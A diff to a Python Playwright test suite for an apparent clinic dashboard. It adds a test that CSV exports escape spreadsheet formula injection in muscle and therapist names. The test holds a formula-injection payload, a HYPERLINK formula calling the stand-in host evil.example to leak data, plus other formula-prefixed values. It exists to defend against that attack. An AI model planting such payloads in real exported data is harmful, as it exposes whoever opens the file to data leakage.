@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 import re
 from pathlib import Path
 
@@ -6,7 +8,14 @@ import pytest
 from django.utils import timezone
 from playwright.sync_api import expect
 
-from tests.factories import PainScoreFactory, PatientFactory, TreatmentSessionFactory
+from reports.views import OUTCOME_COLUMNS
+from sessions.models import Muscle
+from tests.factories import (
+    PainScoreFactory,
+    PatientFactory,
+    TreatmentSessionFactory,
+    TriggerPointFactory,
+)
 
 from .conftest import sign_in
 
@@ -14,6 +23,7 @@ pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
 
 ARTEFACTS = Path(__file__).resolve().parents[2] / "test-results"
 DAY = dt.timedelta(days=1)
+OUTCOME_KEYS = [key for key, _ in OUTCOME_COLUMNS]
 
 
 def _course(clinic, therapist, profile, baseline, latest):
@@ -83,3 +93,30 @@ def test_the_dashboard_fits_a_phone(page, live_server, clinic_a, manager, therap
     assert width <= 390
     ARTEFACTS.mkdir(exist_ok=True)
     page.screenshot(path=str(ARTEFACTS / "dashboard-phone.png"), full_page=True)
+
+
+def test_the_dashboards_csv_keeps_a_formula_in_a_muscle_name_as_text(
+    page, live_server, clinic_a, manager, therapist
+):
+    muscle = Muscle.objects.get(slug="upper-trapezius")
+    muscle.name = '=HYPERLINK("http://evil.example/?leak","Trapezius")'
+    muscle.save()
+    therapist.first_name, therapist.last_name = "-2+3", "@SUM(A1)"
+    therapist.save()
+    person = _course(clinic_a, therapist, "active", 7, 3)
+    TriggerPointFactory(session=person.sessions.first(), muscle=muscle)
+    sign_in(page, live_server, "carol")
+    page.goto(f"{live_server.url}/dashboard/")
+    expect(page.locator("#dashboard")).to_have_attribute("data-state", "ready")
+
+    tables = {}
+    for key in ("muscles", "therapists"):
+        with page.expect_download() as caught:
+            page.locator(f'[data-csv="{key}"]').click()
+        tables[key] = list(csv.reader(io.StringIO(Path(caught.value.path()).read_text())))
+
+    assert tables["muscles"][1][0] == "'" + muscle.name
+    assert tables["muscles"][1][1] == "1"  # counts stay numbers
+    assert tables["therapists"][1][0].startswith("'-2+3")
+    change = tables["therapists"][1][OUTCOME_KEYS.index("mean_change") + 1]
+    assert float(change) < 0 and not change.startswith("'")  # a negative number is a number
